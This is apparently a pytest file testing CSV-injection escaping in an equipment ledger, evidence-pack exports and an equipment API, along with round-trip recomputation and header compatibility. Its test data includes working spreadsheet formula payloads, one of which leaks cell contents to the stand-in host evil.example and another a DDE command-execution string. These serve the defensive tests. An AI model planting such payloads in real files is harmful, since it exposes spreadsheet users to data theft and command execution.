"""CSV injection: names that a spreadsheet would take for formulas (from the equipment sheet or announced by a
gateway) come out of the pack's CSVs and the API's equipment sheet with a `'` in front, and recompute reads
them back exactly (including legitimate values that start with a quote or a minus); negative numbers stay
numbers. The equipment API's `format` takes json or csv only. `device_meta.csv` names no column twice, and a
pack written with the older header still recomputes."""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from cloud_bridge.cloud.api.app import create_cloud_app
from cloud_bridge.cloud.evidence.build import gather_inputs
from cloud_bridge.cloud.evidence.export import export_pack
from cloud_bridge.cloud.evidence.models import Model
from cloud_bridge.cloud.evidence.recompute import read_inputs, recompute_pack
from cloud_bridge.cloud.evidence.tables import csv_table, read_table
from cloud_bridge.cloud.ledger.equipment import equipment_csv, formula_safe, parse_equipment, unescape_cell
from cloud_bridge.cloud.ledger.store import EvidenceStore
from tests.integration.test_cloud_api import add_user, config
from tests.unit.test_evidence_build import CONFIG, NOW, fill_day, period, store  # noqa: F401

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+2",
    "-2+3",
]
LEGIT = ["-", "-5 line", "'quoted", "''", "plain"]
LEDGER = "id,name,type,line,key_process,digitized,gateway\n" + "".join(
    f'press-0{i},"{n.replace(chr(34), chr(34) * 2)}",{t},L1,no,yes,\n'
    for i, (n, t) in enumerate(zip(HOSTILE, LEGIT, strict=True), start=1)
)


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_escape_and_its_inverse() -> None:
    for text in [*HOSTILE, *LEGIT, "\tx", "\rx", "", "5", "中文"]:
        out = formula_safe(text)
        assert not out.startswith(("=", "+", "-", "@", "\t", "\r")), text
        assert unescape_cell(out) == text
    assert formula_safe("-5 line") == "'-5 line" and formula_safe("'quoted") == "''quoted"
    assert formula_safe("plain") == "plain"


class Row(Model):
    name: str
    delta: float
    count: int
    names: list[str]


def test_a_table_round_trips_text_cells_and_keeps_numbers_numbers() -> None:
    rows = [Row(name=n, delta=-1.5, count=-3, names=[n, "b"]) for n in [*HOSTILE, *LEGIT]]
    data = csv_table(Row, rows, "Asia/Shanghai", precise=True)
    body = cells(data)[1:]
    for r, (name, delta, count, names) in zip(rows, body, strict=True):
        assert name == formula_safe(r.name) and names == formula_safe(f"{r.name};b")
        assert (delta, count) == ("-1.5", "-3")  # numbers are not text cells
    assert read_table(Row, data, "rows.csv") == rows


def test_equipment_csv_is_escaped_and_reads_back() -> None:
    items = parse_equipment(LEDGER.encode(), "ledger.csv").items
    assert [e.name for e in items] == HOSTILE  # the sheet is read as the enterprise keeps it
    text = equipment_csv(items)
    for row in cells(text.encode())[1:]:
        assert not row[1].startswith(("=", "+", "-", "@")) and row[1].startswith("'")
    again = parse_equipment(text.encode(), "e.csv", escaped=True).items
    assert [(e.id, e.name, e.type) for e in again] == [(e.id, e.name, e.type) for e in items]


@pytest.fixture
def hostile_store(store: EvidenceStore) -> EvidenceStore:  # noqa: F811
    store.import_equipment("ent-1", LEDGER.encode(), "ledger.csv")
    return store


def test_the_packs_csvs_escape_formulas_and_recompute_round_trips(hostile_store: EvidenceStore, tmp_path: Path) -> None:
    inputs = gather_inputs(hostile_store, CONFIG, "ent-1", period(), now_ms=NOW)
    assert inputs.devices and inputs.tags
    names = iter([*HOSTILE, *LEGIT] * 4)
    inputs = dataclasses.replace(
        inputs,
        devices=[d.model_copy(update={"name": next(names), "type": next(names)}) for d in inputs.devices],
        tags=[t.model_copy(update={"unit": next(names)}) for t in inputs.tags],
    )
    d = export_pack(inputs, tmp_path / "pack").directory
    for name in ("equipment_ledger.csv", "devices.csv", "device_meta.csv", "tags.csv", "areas.csv"):
        data = (d / "csv" / name).read_bytes()
        for row in cells(data)[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                assert not cell.startswith("-") or float(cell) < 0, (name, cell)  # a negative number, or escaped
    ledger = cells((d / "csv" / "equipment_ledger.csv").read_bytes())
    assert [r[1] for r in ledger[1:]] == [f"'{n}" for n in HOSTILE]
    back = read_inputs(d)
    assert [e.name for e in back.equipment] == HOSTILE and [e.type for e in back.equipment] == LEGIT
    assert [(m.name, m.type) for m in back.devices] == [(m.name, m.type) for m in inputs.devices]
    assert [t.unit for t in back.tags] == [t.unit for t in inputs.tags]
    r = recompute_pack(d)
    assert r.ok, r.differences


@pytest.fixture
def client(tmp_path: Path) -> Iterator[TestClient]:
    url = f"sqlite:///{tmp_path}/ledger.db"
    fill_day(url)
    with TestClient(create_cloud_app(config(url))) as c:
        c.headers["Authorization"] = f"Bearer {add_user(url, 'ops', 'admin', [])}"
        yield c


def test_the_equipment_api_escapes_its_sheet(client: TestClient) -> None:
    put = client.put(
        "/api/v1/enterprises/ent-1/equipment",
        params={"filename": "ledger.csv"},
        content=LEDGER.encode(),
        headers={"content-type": "text/csv"},
    )
    assert put.status_code == 200, put.text
    sheet = client.get("/api/v1/enterprises/ent-1/equipment", params={"format": "csv"})
    assert sheet.status_code == 200
    assert [r[1] for r in cells(sheet.content)[1:]] == [f"'{n}" for n in HOSTILE]
    assert [r[2] for r in cells(sheet.content)[1:]] == [formula_safe(t) for t in LEGIT]
    assert client.get("/api/v1/enterprises/ent-1/equipment").json()["equipment"][0]["name"] == HOSTILE[0]


def test_the_equipment_api_takes_json_or_csv_only(client: TestClient) -> None:
    assert client.get("/api/v1/enterprises/ent-1/equipment", params={"format": "json"}).status_code == 200
    xml = client.get("/api/v1/enterprises/ent-1/equipment", params={"format": "xml"})
    assert xml.status_code == 422 and "'json' or 'csv'" in xml.text


# ---------------------------------------------------------------- device_meta.csv's header


def test_device_meta_names_no_column_twice_and_an_older_pack_recomputes(store: EvidenceStore, tmp_path: Path) -> None:  # noqa: F811
    d = export_pack(gather_inputs(store, CONFIG, "ent-1", period(), now_ms=NOW), tmp_path / "pack").directory
    meta = d / "csv" / "device_meta.csv"
    header = cells(meta.read_bytes())[0]
    assert len(set(header)) == len(header), header
    assert header[2:5] == ["announced", "announced_local", "announced_ms"]
    # as packs were written before: the local time named `announced` too
    meta.write_bytes(meta.read_bytes().replace(b"announced,announced_local,", b"announced,announced,", 1))
    assert cells(meta.read_bytes())[0][2:5] == ["announced", "announced", "announced_ms"]
    r = recompute_pack(d)
    assert r.ok, r.differences
    # and a header that is neither is still a difference
    meta.write_bytes(meta.read_bytes().replace(b"announced,announced,", b"announced,when,", 1))
    with pytest.raises(Exception, match="the header is not"):
        recompute_pack(d)
